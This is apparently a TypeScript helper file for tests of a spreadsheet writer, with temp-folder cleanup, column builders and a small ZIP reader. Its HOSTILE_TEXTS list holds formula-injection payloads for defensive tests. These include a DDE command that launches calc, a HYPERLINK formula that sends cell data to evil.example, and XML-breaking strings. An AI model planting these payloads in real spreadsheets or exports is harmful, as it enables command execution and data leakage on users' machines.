/** Helpers for the tests of this folder. */
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { afterAll } from 'vitest';
import type { ColumnKind, SheetCell, SheetColumn, SheetWriter } from './sheet.ts';

const folders: string[] = [];
afterAll(() => Promise.all(folders.map((folder) => rm(folder, { recursive: true, force: true }))));

/** A folder that is removed after the tests of the file that imports this. */
export async function temporaryFolder(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'fealty-sheets-'));
  folders.push(folder);
  return folder;
}

export function columnsOf(...kinds: ColumnKind[]): SheetColumn[] {
  return kinds.map((kind, index) => ({ title: `${kind} ${index + 1}`, kind, width: 14 }));
}

export async function writeAll(
  writer: SheetWriter,
  rows: readonly SheetCell[][],
): Promise<{ bytes: number }> {
  await writer.write(rows);
  return writer.close();
}

export async function isEmptyFolder(folder: string): Promise<boolean> {
  return (await readdir(folder)).length === 0;
}

/** Each line starts with something that some spreadsheet takes for a formula or a command. */
export const HOSTILE_TEXTS = [
  '=1+1',
  '+7 900 000-00-00',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '"=1+1"',
  '=1+1,=2+2;=3+3',
  '{=1+1}',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  '<f>1+1</f>',
];

/** The entries of a ZIP archive by name, found through its directory as a reader does. */
export function unzip(archive: Buffer): Map<string, Buffer> {
  const tail = archive.length - 22;
  const entries = new Map<string, Buffer>();
  let at = archive.readUInt32LE(tail + 16);
  for (let left = archive.readUInt16LE(tail + 10); left > 0; left--) {
    const packedSize = archive.readUInt32LE(at + 20);
    const nameLength = archive.readUInt16LE(at + 28);
    const name = archive.toString('latin1', at + 46, at + 46 + nameLength);
    const header = archive.readUInt32LE(at + 42);
    const start = header + 30 + archive.readUInt16LE(header + 26);
    entries.set(name, inflateRawSync(archive.subarray(start, start + packedSize)));
    at += 46 + nameLength;
  }
  return entries;
}
